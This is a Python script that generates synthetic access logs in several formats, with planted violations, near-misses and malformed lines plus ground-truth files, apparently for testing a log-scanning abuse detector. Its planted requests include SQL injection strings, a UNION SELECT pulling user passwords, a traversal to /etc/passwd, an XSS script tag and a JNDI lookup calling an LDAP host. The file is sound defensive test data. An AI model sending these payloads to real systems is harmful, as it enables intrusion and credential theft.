"""Synthetic access logs in every log format, with planted violations, near-misses and malformed
lines, plus the account bindings and the ground truth to check a scan against.

``generate_logs`` writes ``logs/<format>/...`` (one combined file gzipped), ``bindings.csv``,
``truth/logs.jsonl`` (one object per planted violation, with the file and line of every line
involved), ``truth/logs_near_misses.jsonl`` (planted look-alikes that must not match) and
``truth/logs_malformed.json`` (malformed lines planted per file). Deterministic for a seed.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import json
import sys
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import quote

import numpy as np

BEIJING = timezone(timedelta(hours=8))
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
FORMATS = ("combined", "common", "qiniu-kodo", "tencent-cdn", "s3-access", "w3c", "jsonl")
# Share of the background lines each file gets.
_SHARES = {"combined": 0.18, "combined-gz": 0.12, "common": 0.10, "qiniu-kodo": 0.12,
           "tencent-cdn": 0.16, "s3-access": 0.10, "w3c": 0.10, "jsonl": 0.12}

USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; 23127PN0CC Build/UKQ1.230804.001) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.49(0x18003137) NetType/WIFI Language/zh_CN",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:129.0) Gecko/20100101 Firefox/129.0",
    "okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 13; V2238A Build/TP1A.220624.014)",
)
SCANNER_UA = "Mozilla/5.0 zgrab/0.x"
REFERERS = ("https://www.baidu.com/s?wd=%E6%95%99%E7%A8%8B", "https://www.so.com/", "https://m.sogou.com/",
            "https://weixin.qq.com/", "https://www.bing.com/search?q=docs")
PATHS = ("/", "/index.html", "/about", "/products/{n}", "/images/{n}.jpg", "/static/js/app.{h}.js",
         "/static/css/main.{h}.css", "/api/v1/items?id={n}", "/api/v1/list?page={p}&size=20",
         "/search?q=%E6%89%8B%E6%9C%BA", "/%E6%96%B0%E9%97%BB/{n}.html", "/video/{n}.mp4", "/docs/guide",
         "/download/app-release-{p}.apk", "/favicon.ico", "/robots.txt", "/news/2026/{n}.html")
STATUSES = np.array([200, 304, 404, 301, 403, 500, 206])
STATUS_P = np.array([0.86, 0.05, 0.04, 0.02, 0.01, 0.01, 0.01])
_WORDS = ("shop", "news", "video", "cloud", "game", "edu", "travel", "food", "music", "photo", "tech", "read")


@dataclass(frozen=True)
class Event:
    """One request, independent of the format it is written in."""

    ts: float          # seconds since the epoch, UTC
    ip: str
    domain: str
    method: str
    uri: str
    status: int
    sent: int
    referer: str | None
    ua: str
    rt_ms: int
    cache: str
    plant: str = ""    # id of the planted violation or near-miss this line belongs to


# --- writers, one per format ---------------------------------------------------------------------

def _clf(ts: float, tz: timezone) -> str:
    t = datetime.fromtimestamp(ts, tz)
    off = "+0800" if tz is BEIJING else "+0000"
    return f"{t.day:02d}/{_MONTHS[t.month - 1]}/{t.year}:{t.hour:02d}:{t.minute:02d}:{t.second:02d} {off}"


def _combined(e: Event) -> str:
    return (f'{e.ip} - - [{_clf(e.ts, BEIJING)}] "{e.method} {e.uri} HTTP/1.1" {e.status} {e.sent} '
            f'"{e.referer or "-"}" "{e.ua}"')


def _common(e: Event) -> str:
    return f'{e.ip} - - [{_clf(e.ts, BEIJING)}] "{e.method} {e.uri} HTTP/1.1" {e.status} {e.sent}'


def _qiniu(e: Event) -> str:
    return (f'{e.ip} - - [{_clf(e.ts, BEIJING)}] {e.rt_ms} "{e.method} {e.uri} HTTP/1.1" {e.status} '
            f'{e.sent or "-"} "{e.referer or "-"}" "{e.ua}" "-"')


def _tencent(e: Event, old: bool = False) -> str:
    t = datetime.fromtimestamp(e.ts, BEIJING).strftime("%Y%m%d%H%M%S")
    line = (f'{t} {e.ip} {e.domain} {e.uri} {e.sent} 22 2 {e.status} {e.referer or "-"} {e.rt_ms} '
            f'"{e.ua}" "-"')
    return line if old else f"{line} {e.method} HTTP/1.1 {e.cache.lower()}"


def _s3(e: Event) -> str:
    bucket = e.domain.split(".")[0]
    return (f'79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be {bucket} '
            f'[{_clf(e.ts, timezone.utc)}] {e.ip} - 3E57427F3EXAMPLE REST.GET.OBJECT {e.uri.lstrip("/") or "-"} '
            f'"{e.method} {e.uri} HTTP/1.1" {e.status} - {e.sent or "-"} {e.sent} {e.rt_ms} 1 '
            f'"{e.referer or "-"}" "{e.ua}" - Gmkb3E= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader '
            f'{e.domain} TLSv1.2 - -')


W3C_FIELDS = ("date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) "
              "cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header "
              "cs-protocol cs-bytes time-taken")


def _w3c(e: Event) -> str:
    t = datetime.fromtimestamp(e.ts, timezone.utc)
    stem, _, query = e.uri.partition("?")
    return "\t".join((t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), "PVG50-C1", str(e.sent), e.ip, e.method,
                      "d1a2b3c4.cloudfront.net", stem, str(e.status), quote(e.referer or "-", safe="/:-"),
                      quote(e.ua, safe="/;:.,()-"), query or "-", "-", e.cache.title(), "kX9dQ==", e.domain,
                      "https", "312", f"{e.rt_ms / 1000:.3f}"))


def _jsonl(e: Event) -> str:
    t = datetime.fromtimestamp(e.ts, BEIJING if int(e.ts) % 2 else timezone.utc)
    return json.dumps({"ts": t.isoformat(), "client_ip": e.ip, "domain": e.domain, "method": e.method,
                       "uri": e.uri, "status": e.status, "bytes_sent": e.sent, "referer": e.referer,
                       "user_agent": e.ua, "request_time_ms": float(e.rt_ms), "cache_status": e.cache},
                      ensure_ascii=False)


WRITERS: dict[str, Callable[[Event], str]] = {
    "combined": _combined, "combined-gz": _combined, "common": _common, "qiniu-kodo": _qiniu,
    "tencent-cdn": _tencent, "s3-access": _s3, "w3c": _w3c, "jsonl": _jsonl,
}


# --- malformed lines -----------------------------------------------------------------------------

def _malformed(kind: str, e: Event) -> list[bytes]:
    """Every kind of broken line the file's format can have, built from one good event."""
    good = WRITERS[kind](e)
    huge = replace(e, uri="/search?q=" + "A" * 70_000)
    out = [b"", WRITERS[kind](huge).encode(),                   # blank; longer than 64 KiB
           good.encode().replace(b"Mozilla", b"Mo\xff\xfezilla", 1) if "Mozilla" in good
           else good.encode() + b"\xc3\x28",                       # invalid UTF-8
           b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x9a"]    # binary garbage (a TLS hello)
    if kind in ("combined", "combined-gz", "common", "qiniu-kodo", "s3-access"):
        out.append(good.replace(" HTTP/1.1\"", " HTTP/1.1", 1).encode())            # unclosed quote
        out.append(good.replace(_clf(e.ts, BEIJING if kind != "s3-access" else timezone.utc),
                                "32/Foo/2026:25:61:00 +0800", 1).encode())         # bad date
        out.append(good[:good.index("HTTP/1.1\"") + 13].encode())                    # truncated
    elif kind == "tencent-cdn":
        out.append(good.replace('"-" GET', '"- GET', 1).replace(f'"{e.ua}"', f'"{e.ua}', 1).encode())
        out.append(("20261345256100" + good[14:]).encode())
        out.append(" ".join(good.split(" ")[:8]).encode())
    elif kind == "w3c":
        out.append(("2026-13-45" + good[10:]).encode())
        out.append("\t".join(good.split("\t")[:-3]).encode())
    elif kind == "jsonl":
        out.append(good[:good.index('"uri"') + 12].encode())                       # unclosed string
        out.append(json.dumps({**json.loads(good), "ts": "2026-13-45T00:00:00Z"}).encode())
        out.append(b"[1, 2, 3]")
    return out


# --- traffic -------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Site:
    domain: str
    account: str
    file: str


def _sites() -> list[Site]:
    layout = [("combined", 1), ("combined-gz", 1), ("common", 1), ("qiniu-kodo", 1), ("tencent-cdn", 10),
              ("s3-access", 6), ("w3c", 6), ("jsonl", 10)]
    sites: list[Site] = []
    k = 0
    for file, count in layout:
        for _ in range(count):
            word = _WORDS[k % len(_WORDS)]
            sites.append(Site(f"{word}{k:02d}.example.cn" if k % 3 else f"www.{word}{k:02d}.com.cn",
                              f"acct-{1000 + k // 3:04d}", file))
            k += 1
    return sites


def _ips(rng: np.random.Generator, n: int) -> list[str]:
    first = rng.choice([36, 58, 101, 112, 114, 117, 120, 183, 221, 223], size=n)
    rest = rng.integers(1, 255, size=(n, 3))
    return [f"{a}.{b}.{c}.{d}" for a, (b, c, d) in zip(first.tolist(), rest.tolist())]


def _background(rng: np.random.Generator, n: int, sites: list[Site], t0: float, seconds: int) -> list[Event]:
    ips = _ips(rng, max(50, n // 60))
    ts = t0 + rng.uniform(0, seconds, size=n)
    ip_idx = np.minimum(rng.zipf(1.3, size=n) - 1, len(ips) - 1)
    per_file = {s.file: sum(1 for t in sites if t.file == s.file) for s in sites}
    weights = np.array([_SHARES[s.file] / per_file[s.file] for s in sites])
    site_idx = rng.choice(len(sites), size=n, p=weights / weights.sum())
    path_idx = rng.integers(0, len(PATHS), size=n)
    nums = rng.integers(1, 99999, size=n)
    status = rng.choice(STATUSES, size=n, p=STATUS_P)
    sent = np.where(status == 304, 0, rng.lognormal(9.5, 1.5, size=n).astype(np.int64))
    ua_idx = rng.integers(0, len(USER_AGENTS), size=n)
    ref_idx = rng.integers(-3, len(REFERERS), size=n)
    rt = rng.integers(1, 900, size=n)
    hit = rng.random(size=n) < 0.8
    events = []
    for i in range(n):
        tpl = PATHS[path_idx[i]]
        uri = tpl.format(n=int(nums[i]), h=f"{int(nums[i]):05x}a", p=int(nums[i]) % 9 + 1) if "{" in tpl else tpl
        r = int(ref_idx[i])
        events.append(Event(float(ts[i]), ips[ip_idx[i]], sites[site_idx[i]].domain, "GET", uri, int(status[i]),
                            int(sent[i]), REFERERS[r] if r >= 0 else None, USER_AGENTS[ua_idx[i]],
                            int(rt[i]), "HIT" if hit[i] else "MISS"))
    return events


@dataclass(frozen=True)
class Plant:
    """A planted violation (or near-miss) and the events that make it up."""

    id: str
    family: str
    subject_type: str
    subject_id: str
    events: tuple[Event, ...]
    note: str = ""


def _plants(sites: list[Site], t0: float, baseline_per_hour: float) -> tuple[list[Plant], list[Plant]]:
    by_file: dict[str, list[Site]] = {}
    for s in sites:
        by_file.setdefault(s.file, []).append(s)
    hour = 3600
    day1 = t0 + 2 * hour          # 10:00 Beijing on the first day; 02:00 UTC the same day
    ua = USER_AGENTS[0]

    def ev(ts: float, ip: str, site: Site, uri: str, status: int = 200, sent: int = 2048,
           agent: str = ua, pid: str = "") -> Event:
        return Event(ts, ip, site.domain, "GET", uri, status, sent, None, agent, 12, "MISS", pid)

    plants: list[Plant] = []
    misses: list[Plant] = []
    a = by_file["combined"][0]
    minute = day1 + 600 + 2                                   # inside one aligned minute
    plants.append(Plant("scan-404", "attack_scanning", "client_ip", "203.0.113.7", tuple(
        ev(minute + i * 50 / 80, "203.0.113.7", a, f"/wp-admin/setup-{i}.php", 404, 162, SCANNER_UA, "scan-404")
        for i in range(80)), "80 responses 404 within one minute"))
    misses.append(Plant("near-scan-404", "attack_scanning", "client_ip", "203.0.113.8", tuple(
        ev(minute + 120 + i, "203.0.113.8", a, f"/old/page-{i}.html", 404, 162, pid="near-scan-404")
        for i in range(40)), "40 responses 404 within one minute: below 60"))
    t = by_file["tencent-cdn"][1]
    window = day1 + 3 * hour + 20 * 60 + 5                    # 7 minutes inside one aligned 10-minute window
    plants.append(Plant("scan-distinct", "attack_scanning", "client_ip", "198.51.100.23", tuple(
        ev(window + i * 420 / 180, "198.51.100.23", t, f"/backup/{w}-{i}.zip", 404 if i % 3 else 200, 300,
           SCANNER_UA, "scan-distinct") for i, w in zip(range(180), ["db", "site", "www", "old"] * 45)),
        "180 distinct paths within 10 minutes"))
    payloads = [("sqli", "combined", "/item.php?id=1%27%20OR%201=1--"), ("sqli", "combined", "/item.php?id=1' OR 1=1--"),
                ("union", "s3-access", "/list.php?cat=2%20UNION%20SELECT%20user,password%20FROM%20users"),
                ("traversal", "qiniu-kodo", "/download?file=../../etc/passwd"),
                ("xss", "w3c", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
                ("jndi", "jsonl", "/api/login?user=${jndi:ldap://203.0.113.99/a}")]
    for k, (kind, file, uri) in enumerate(payloads):
        ip = f"192.0.2.{10 + k}"
        site = by_file[file][0]
        plants.append(Plant(f"inject-{k}", "attack_injection", "client_ip", ip,
                            (ev(day1 + 5 * hour + k * 37, ip, site, uri, 400, 150, pid=f"inject-{k}"),), kind))
    spike_site = by_file["tencent-cdn"][0]
    extra = max(300, int(12 * baseline_per_hour) + 1)  # above the spike rule's floor of 250 an hour
    spike_hour = day1 + 6 * hour
    plants.append(Plant("spike", "abuse_traffic_spike", "domain", spike_site.domain, tuple(
        ev(spike_hour + i * 3590 / extra, f"10.{i % 200}.{i % 7}.{i % 250 + 1}", spike_site, f"/promo/{i % 50}.jpg",
           pid="spike") for i in range(extra)), f"{extra} extra requests in one hour, baseline {baseline_per_hour:.1f}"))
    heavy = by_file["jsonl"][1]
    plants.append(Plant("bandwidth", "abuse_bandwidth", "domain", heavy.domain, tuple(
        ev(day1 + i * 50, f"58.20.{i}.9", heavy, f"/video/full-{i}.mp4", 200, 1_000_000_000, pid="bandwidth")
        for i in range(60)), "60 GB served in one day"))
    content = [("contraband_gambling", "combined-gz", "/%E8%B5%8C%E5%9C%BA/index.html"),
               ("contraband_gambling", "combined-gz", "/casino/slots.html"),
               ("contraband_gambling", "jsonl", "/赌场/vip.html"),
               ("pornographic_adult", "qiniu-kodo", "/av/list.html"),
               ("pornographic_adult", "w3c", "/%E8%89%B2%E6%83%85/1.html"),
               ("pornographic_adult", "tencent-cdn", "/static/porn/clip.mp4")]
    for k, (family, file, uri) in enumerate(content):
        site = by_file[file][-1]
        plants.append(Plant(f"content-{k}", family, "domain", site.domain,
                            (ev(day1 + 7 * hour + k * 11, "117.30.1.2", site, uri, pid=f"content-{k}"),), uri))
    for k, uri in enumerate(("/java/tutorial.html", "/classes/intro", "/avatar.png", "/savings/plan", "/assets/app.css")):
        site = by_file["combined"][0]
        misses.append(Plant(f"near-content-{k}", "content", "domain", site.domain,
                            (ev(day1 + 8 * hour + k, "117.30.1.3", site, uri, pid=f"near-content-{k}"),), uri))
    return plants, misses


FILE_NAMES = {"combined": "combined/{d}.access.log", "combined-gz": "combined/{d}.access.log.gz",
              "common": "common/{d}.access.log", "qiniu-kodo": "qiniu-kodo/{d}.log",
              "tencent-cdn": "tencent-cdn/cdn-offline.log", "s3-access": "s3-access/access.log",
              "w3c": "w3c/cloudfront.log", "jsonl": "jsonl/access.jsonl"}
FILE_FORMAT = {"combined-gz": "combined"}


def generate_logs(out_dir: Path, *, lines: int, seed: int, days: int = 2, start: str = "2026-11-01") -> dict:
    """Write access logs of every format, bindings and ground truth under ``out_dir``.

    ``lines`` background requests are spread over the files and ``days`` days from ``start``
    (midnight Beijing time); planted violations, near-misses and malformed lines come on top.
    Returns a summary: the files (path, format, configured domain, physical lines, directive
    lines, malformed lines) and the paths of the bindings and truth files.
    """
    out_dir = Path(out_dir)
    rng = np.random.default_rng(seed)
    t0 = datetime.fromisoformat(start).replace(tzinfo=BEIJING).timestamp()
    seconds = days * 86400
    sites = _sites()
    events = _background(rng, lines, sites, t0, seconds)
    tencent_sites = sum(1 for s in sites if s.file == "tencent-cdn")
    baseline = lines * _SHARES["tencent-cdn"] / tencent_sites / (days * 24)
    plants, misses = _plants(sites, t0, baseline)
    per_file: dict[str, list[Event]] = {k: [] for k in WRITERS}
    site_of = {s.domain: s for s in sites}
    for e in events:
        per_file[site_of[e.domain].file].append(e)
    for p in plants + misses:
        for e in p.events:
            per_file[site_of[e.domain].file].append(e)

    located: dict[str, list[dict]] = {}
    summary_files = []
    malformed_counts: dict[str, int] = {}
    for key, evs in per_file.items():
        evs.sort(key=lambda e: e.ts)
        domain = next(s.domain for s in sites if s.file == key)
        rel = "logs/" + FILE_NAMES[key].format(d=domain)
        writer = WRITERS[key]
        rows: list[bytes] = [writer(e).encode() for e in evs]
        if key == "tencent-cdn":  # older files stop after the range field: the first tenth is old style
            for i in range(len(evs) // 10):
                rows[i] = _tencent(evs[i], old=True).encode()
        bad = _malformed(key, evs[len(evs) // 2])
        slots = sorted(rng.choice(np.arange(1, len(rows)), size=len(bad), replace=False).tolist(), reverse=True)
        planted_at: dict[str, list[int]] = {}
        for slot, line in zip(slots, bad):
            rows.insert(slot, line)
        header: list[bytes] = []
        if key == "w3c":
            header = [b"#Version: 1.0", b"#Fields: " + W3C_FIELDS.encode()]
        # physical line numbers of the good events, after the inserts and the header
        bad_positions = sorted(s + i for i, s in enumerate(sorted(slots)))
        good_line = []
        n_total = len(rows)
        bad_set = set(bad_positions)
        for pos in range(n_total):
            if pos not in bad_set:
                good_line.append(pos + 1 + len(header))
        for e, ln in zip(evs, good_line):
            if e.plant:
                planted_at.setdefault(e.plant, []).append(ln)
        for pid, lns in planted_at.items():
            located.setdefault(pid, []).extend({"file": rel, "line": ln} for ln in lns)
        body = b"\n".join(header + rows)
        # the common log ends without a newline: a complete last line must still parse
        body += b"" if key == "common" else b"\n"
        target = out_dir / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(gzip.compress(body, mtime=0) if rel.endswith(".gz") else body)
        malformed_counts[rel] = len(bad)
        fmt = FILE_FORMAT.get(key, key)
        summary_files.append({"path": rel, "format": fmt,
                              "domain": domain if fmt in ("combined", "common", "qiniu-kodo") else None,
                              "lines": n_total + len(header), "directives": len(header), "malformed": len(bad)})

    (out_dir / "truth").mkdir(parents=True, exist_ok=True)
    with open(out_dir / "truth" / "logs.jsonl", "w", encoding="utf-8") as fh:
        for p in plants:
            fh.write(json.dumps({"id": p.id, "family": p.family, "subject_type": p.subject_type,
                                 "subject_id": p.subject_id, "note": p.note, "lines": located.get(p.id, [])},
                                ensure_ascii=False) + "\n")
    with open(out_dir / "truth" / "logs_near_misses.jsonl", "w", encoding="utf-8") as fh:
        for p in misses:
            fh.write(json.dumps({"id": p.id, "family": p.family, "subject_type": p.subject_type,
                                 "subject_id": p.subject_id, "note": p.note, "lines": located.get(p.id, [])},
                                ensure_ascii=False) + "\n")
    (out_dir / "truth" / "logs_malformed.json").write_text(json.dumps(malformed_counts, indent=2) + "\n")
    _write_bindings(out_dir / "bindings.csv", sites)
    return {"files": summary_files, "bindings": str(out_dir / "bindings.csv"),
            "truth": str(out_dir / "truth" / "logs.jsonl"), "malformed": malformed_counts,
            "planted": len(plants), "near_misses": len(misses)}


_PROVINCES = ("浙", "京", "沪", "粤", "苏", "川")
_ENTITIES = ("杭州云帆网络科技有限公司", "北京星河数据服务有限公司", "上海明澜信息技术有限公司",
             "深圳前海青木互动娱乐有限公司", "南京知行教育科技有限公司", "成都蜀光传媒有限公司")


def _write_bindings(path: Path, sites: list[Site]) -> None:
    """Which account owns which domain (and one bucket and hub per account)."""
    accounts = sorted({s.account for s in sites})
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["account_id", "resource_type", "resource", "verified_entity", "declared_filing"])
        for k, acct in enumerate(accounts):
            entity = _ENTITIES[k % len(_ENTITIES)]
            filing = f"{_PROVINCES[k % len(_PROVINCES)]}ICP备{20260000 + k * 137:08d}号"
            for n, s in enumerate(s for s in sites if s.account == acct):
                w.writerow([acct, "domain", s.domain, entity, f"{filing}-{n + 1}"])
            w.writerow([acct, "bucket", f"bkt-{acct[5:]}", entity, ""])
            w.writerow([acct, "hub", f"live-{acct[5:]}", entity, ""])


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Write synthetic access logs with planted violations.")
    parser.add_argument("out_dir", type=Path)
    parser.add_argument("--lines", type=int, default=20_000)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--days", type=int, default=2)
    parser.add_argument("--start", default="2026-11-01")
    args = parser.parse_args(argv)
    summary = generate_logs(args.out_dir, lines=args.lines, seed=args.seed, days=args.days, start=args.start)
    json.dump(summary, sys.stdout, indent=2, ensure_ascii=False)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
